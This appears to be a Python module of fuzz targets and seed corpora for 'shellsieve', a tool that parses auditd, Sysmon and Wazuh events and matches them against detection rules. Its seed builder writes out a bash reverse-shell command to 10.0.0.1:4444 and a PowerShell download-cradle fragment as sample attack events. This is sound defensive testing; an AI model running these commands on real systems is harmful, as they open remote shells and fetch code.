"""Fuzz targets: one function per decoder, taking arbitrary bytes and asserting its invariants.

Each target raises (AssertionError, or the decoder's own exception) only on a defect: every error a
decoder is documented to signal is caught here, everything else escapes and is a finding. The same
functions run under atheris (`run_atheris.py`), under hypothesis where atheris is not installed, and
over their seed corpora (`seeds()`) in the default pytest run (`test_fuzz.py`).
"""

from __future__ import annotations

import ast
import atexit
import io
import json
import shutil
import tempfile
from collections.abc import Callable, Iterator
from functools import cache
from pathlib import Path
from typing import Any

import eql
import msgspec

from shellsieve.cli import build
from shellsieve.compile.ruleset import Ruleset, compile_rules
from shellsieve.errors import UnsupportedError
from shellsieve.events.argv import shell_join, split_posix, split_windows
from shellsieve.events.auditd import AuditAssembler, parse_record, to_ecs
from shellsieve.events.cmdline import from_cmdline
from shellsieve.events.pids import PidTable
from shellsieve.events.sysmon import from_evtx_json, from_syslog_xml, from_winlogbeat
from shellsieve.events.view import ViewSchema
from shellsieve.events.wazuh import from_wazuh
from shellsieve.model.expr import Expr
from shellsieve.rules.discover import load_rules
from shellsieve.rules.eql import parse_eql
from shellsieve.rules.kql import parse_kql
from shellsieve.run.loop import run_filter
from shellsieve.run.match import BlockMatcher
from shellsieve.run.stats import Stats
from shellsieve.settings import Settings

__all__ = ["TARGETS", "seeds", "prepare"]

ROOT = Path(__file__).resolve().parents[2]
Target = Callable[[bytes], None]

# What msgspec raises on bytes that are not the JSON asked for: DecodeError (ValidationError is one),
# UnicodeDecodeError on bad UTF-8 and RecursionError on deep nesting (see DESIGN.md, Known hazards).
_JSON_ERRORS = (msgspec.DecodeError, UnicodeDecodeError, RecursionError)


@cache
def _shipped() -> Ruleset:
    _, ruleset, _ = build([ROOT / "patterns"])
    return ruleset


@cache
def _schema() -> ViewSchema:
    # The shipped rules' fields, and the shapes a rule may name: array indices, deep and flat paths.
    fields = set(_shipped().schema.fields) | {"process.args.0", "process.args.1", "a", "a.b.c", "a.0.b",
                                              "winlog.event_data.CommandLine", "message"}
    return ViewSchema(fields)


def prepare() -> None:
    """Build what the targets share (the shipped ruleset, the view) now rather than in the first input."""
    _schema()
    _pool()
    _tmp()


def _text(data: bytes) -> str:
    """Bytes as the router hands a text line to its decoder (run/route.py)."""
    return data.decode("utf-8", "backslashreplace")


def _json_object(data: bytes) -> dict[str, Any] | None:
    try:
        doc = msgspec.json.decode(data)
    except _JSON_ERRORS:
        return None
    return doc if isinstance(doc, dict) else None


def _strict_json(line: bytes) -> Any:
    """RFC 8259 JSON or an AssertionError: valid UTF-8, no NaN / Infinity, no raw control byte."""
    def no_constant(name: str) -> Any:
        raise AssertionError(f"non-standard JSON constant {name} in {line[:200]!r}")

    try:
        return json.loads(line.decode("utf-8"), parse_constant=no_constant)
    except (UnicodeDecodeError, ValueError) as exc:
        raise AssertionError(f"output line is not strict JSON ({exc}): {line[:200]!r}") from None


def _lines(data: bytes) -> list[bytes]:
    lines = data.split(b"\n")
    if lines[-1] == b"":
        lines.pop()
    return lines


_LONG_REPORT = b',"shellsieve":{"line_too_long":'


def _check_output(data: bytes, out: bytes, what: str, max_line: int | None = None) -> None:
    """Every input line has one output line, in order: the line itself, or a JSON object; a line
    over `max_line` may also leave as it came with the over-long report before its closing brace."""
    ins, outs = _lines(data), _lines(out)
    assert out == b"" or out.endswith(b"\n"), f"{what}: output does not end with a newline"
    assert len(outs) == len(ins), f"{what}: {len(ins)} lines in, {len(outs)} out"
    for i, (a, b) in enumerate(zip(ins, outs)):
        if a == b:
            continue
        cut = b.rfind(_LONG_REPORT)
        if max_line is not None and len(a) > max_line and cut > 0:
            assert a.rstrip(b" \t\r").endswith(b"}") and a.startswith(b[:cut]), f"{what}: line {i} {b[:200]!r}"
            continue
        assert isinstance(_strict_json(b), dict), f"{what}: line {i} rewritten as non-object {b[:200]!r}"


# -- event decoders ------------------------------------------------------------------------------

def view(data: bytes) -> None:
    """The typed ECS view: decodes or raises a JSON error; every accessor reads any decoded view."""
    schema = _schema()
    try:
        v: Any = schema.decoder.decode(data)
    except _JSON_ERRORS:
        v = _json_object(data)  # the matcher's untyped fallback
        if v is None:
            return
    for get in schema.accessors.values():
        get(v)


def matcher(data: bytes) -> None:
    """The raw-scan matcher and its per-line decode over a block of lines: one output line per input."""
    block = b"".join(line + b"\n" for line in _lines(data))
    out = BlockMatcher(_shipped(), Stats()).process(block)
    _check_output(block, out, "BlockMatcher.process")


def auditd_record(data: bytes) -> None:
    """One auditd line -> a Record or None, and the record's own ECS fields."""
    rec = parse_record(_text(data))
    if rec is not None:
        to_ecs([rec], PidTable(16), {})


def auditd_assembly(data: bytes) -> None:
    """Records grouped into events (EOE, eviction, drain); each event -> ECS through one pid table."""
    asm = AuditAssembler(timeout_s=0.5, max_open=4)
    pids = PidTable(8)
    events = []
    for i, line in enumerate(_lines(data)):
        rec = parse_record(_text(line))
        if rec is not None:
            events += asm.add(rec, i, now=float(i))
        events += asm.expired(float(i))
    events += asm.drain()
    for ev in events:
        msgspec.json.encode(to_ecs(ev.records, pids, {"0": "root"}, "fuzz-host"))


def sysmon_xml(data: bytes) -> None:
    """Sysmon for Linux XML in a syslog line -> ECS fields, or None when not a well-formed event."""
    flat = from_syslog_xml(_text(data))
    if flat is not None:
        msgspec.json.encode(flat)


def sysmon_json(data: bytes) -> None:
    """Winlogbeat and evtx-dump Sysmon JSON -> ECS fields, for any JSON object."""
    doc = _json_object(data)
    if doc is not None:
        from_winlogbeat(doc)
        from_evtx_json(doc)


def wazuh_json(data: bytes) -> None:
    """Wazuh alerts / archives JSON (full_log records, data.audit, data.command) -> ECS fields."""
    doc = _json_object(data)
    if doc is not None:
        from_wazuh(doc, PidTable(16), {})


def cmdline(data: bytes) -> None:
    """Command lines split as POSIX and Windows do; shell_join is read back by a POSIX shell as the argv."""
    text = _text(data)
    from_cmdline(text)
    split_windows(text)
    args = split_posix(text)
    assert split_posix(shell_join(args)) == args, f"shell_join({args!r}) does not split back"


# -- rule parsers and loaders --------------------------------------------------------------------

def kql(data: bytes) -> None:
    """KQL text -> an expression, or UnsupportedError naming what it cannot translate."""
    try:
        expr = parse_kql(_text(data))
    except UnsupportedError:
        return
    assert isinstance(expr, Expr)


def eql_query(data: bytes) -> None:
    """EQL text -> an expression or sequence, or the errors the Elastic loader turns into diagnostics."""
    try:
        parse_eql(_text(data))
    except (UnsupportedError, eql.EqlError):
        return


_TMP: list[Path] = []


def _tmp() -> Path:
    """The folder for the rule file, removed at exit. Made once, before run_atheris forks its children:
    libFuzzer ends a child with C exit(), which runs no Python exit handler, so the parent removes it."""
    if not _TMP:
        _TMP.append(Path(tempfile.mkdtemp(prefix="shellsieve-fuzz-")))
        atexit.register(shutil.rmtree, _TMP[0], True)
    _TMP[0].mkdir(exist_ok=True)  # a child that crashed (sys.exit) ran the handler already
    return _TMP[0]


def _loader(suffix: str) -> Target:
    def load(data: bytes) -> None:
        path = _tmp() / f"rule{suffix}"
        path.write_bytes(data)
        rules, diags = load_rules([path])
        for d in diags:
            d.render()
        if rules:
            compile_rules(rules)

    load.__name__ = load.__qualname__ = f"rules_{suffix[1:]}"
    load.__doc__ = f"A {suffix} rule file -> rules and diagnostics, never an exception; the rules compile."
    return load


sigma_rules = _loader(".yml")
wazuh_rules = _loader(".xml")
elastic_rules = _loader(".toml")


# -- the whole filter ----------------------------------------------------------------------------

class _NullLog:
    def __getattr__(self, name: str) -> Callable[..., None]:
        return lambda *a, **kw: None


_FORMATS = ("auto", "ecs", "sysmon", "wazuh", "auditd", "sysmon-syslog", "cmdline")


def filter_bytes(data: bytes) -> None:
    """run_filter over any bytes: never raises; one output line per input line, each the input line
    or a strict JSON object. Run twice: auto-detected with the default line cap, and with a format
    and a 64-byte cap picked from the input (so over-long lines and forced formats are covered)."""
    for settings in (Settings(stats_interval_s=0),
                     Settings(stats_interval_s=0, max_line_bytes=64, read_bytes=97,
                              input_format=_FORMATS[len(data) % len(_FORMATS)])):
        out = io.BytesIO()
        run_filter(_shipped(), settings, io.BytesIO(data), out, _NullLog())
        # A last line without its newline leaves with one.
        _check_output(data, out.getvalue(), f"run_filter({settings.input_format}, {settings.max_line_bytes})",
                      settings.max_line_bytes)


TARGETS: dict[str, Target] = {
    "view": view,
    "matcher": matcher,
    "auditd_record": auditd_record,
    "auditd_assembly": auditd_assembly,
    "sysmon_xml": sysmon_xml,
    "sysmon_json": sysmon_json,
    "wazuh_json": wazuh_json,
    "cmdline": cmdline,
    "kql": kql,
    "eql": eql_query,
    "sigma_rules": sigma_rules,
    "wazuh_rules": wazuh_rules,
    "elastic_rules": elastic_rules,
    "filter": filter_bytes,
}


# -- seed corpora --------------------------------------------------------------------------------

def _constants() -> Iterator[bytes]:
    """String and bytes literals of the test files: the events, records and queries tests were written with."""
    for f in sorted((ROOT / "tests").glob("*.py")):
        for node in ast.walk(ast.parse(f.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Constant) and isinstance(node.value, (str, bytes)) and len(node.value) >= 6:
                v = node.value
                yield v if isinstance(v, bytes) else v.encode("utf-8", "surrogatepass")


def _example_lines() -> Iterator[bytes]:
    for f in sorted((ROOT / "examples").iterdir()):
        if f.is_file():
            yield from f.read_bytes().splitlines()


def _samples() -> Iterator[bytes]:
    """Every input shape of tests/format_samples.py for a reverse shell under a web server."""
    import sys

    sys.path.insert(0, str(ROOT / "tests"))
    try:
        import format_samples as fs
    finally:
        sys.path.remove(str(ROOT / "tests"))
    web = fs.Exec(("/usr/sbin/apache2", "-k", "start"), "/usr/sbin/apache2", pid=4000, ppid=1)
    shell = fs.Exec(("bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"), "/usr/bin/bash", parent=web,
                    connect=("10.0.0.1", 4444))
    win = fs.Exec(("powershell.exe", "-nop", "-c", "IEX(New-Object Net.WebClient)"),
                  "C:\\Windows\\powershell.exe", windows=True)
    for writer in fs.WRITERS.values():
        for e in (shell, win):
            try:
                yield from writer(e)
            except Exception:  # a writer for one OS only: not a seed
                continue


def _rule_files(suffixes: tuple[str, ...]) -> Iterator[bytes]:
    for f in sorted((ROOT / "patterns").rglob("*")):
        if f.suffix in suffixes:
            yield f.read_bytes()


_PICK: dict[str, Callable[[bytes], bool]] = {
    "view": lambda s: s.lstrip()[:1] in (b"{", b"["),
    "matcher": lambda s: s.lstrip()[:1] in (b"{", b"["),
    "auditd_record": lambda s: b"msg=audit(" in s,
    "auditd_assembly": lambda s: b"msg=audit(" in s,
    "sysmon_xml": lambda s: b"<Event" in s,
    "sysmon_json": lambda s: s[:1] == b"{" and (b"winlog" in s or b"Event" in s),
    "wazuh_json": lambda s: s[:1] == b"{" and (b"full_log" in s or b"decoder" in s),
    "cmdline": lambda s: b"\n" not in s and not s.startswith((b"{", b"<")),
    "kql": lambda s: b":" in s and b"\n" not in s[:1],
    "eql": lambda s: b" where " in s,
    "sigma_rules": lambda s: b"detection:" in s,
    "wazuh_rules": lambda s: b"<rule" in s or b"<group" in s,
    "elastic_rules": lambda s: b"[rule]" in s,
    "filter": lambda s: True,
}
_RULE_SUFFIXES = {"sigma_rules": (".yml", ".yaml"), "wazuh_rules": (".xml",), "elastic_rules": (".toml",)}


@cache
def _pool() -> tuple[bytes, ...]:
    return tuple(dict.fromkeys([*_constants(), *_example_lines(), *_samples()]))


def seeds(name: str, limit: int = 300) -> list[bytes]:
    """The seed corpus of a target: matching literals of the tests, lines of examples/, the sample
    writers' output and, for loaders, the shipped rule files; at most `limit`, in a stable order."""
    pick = _PICK[name]
    found = [s for s in _pool() if pick(s)]
    if name in _RULE_SUFFIXES:
        found = [*_rule_files(_RULE_SUFFIXES[name]), *found]
    if name in ("auditd_assembly", "filter"):  # whole streams too, not only single lines
        found += [f.read_bytes() for f in sorted((ROOT / "examples").iterdir()) if f.is_file()]
    out = list(dict.fromkeys(found))
    if len(out) > limit:  # spread the cut over the whole pool, deterministically
        step = len(out) / limit
        out = [out[int(i * step)] for i in range(limit)]
    return out
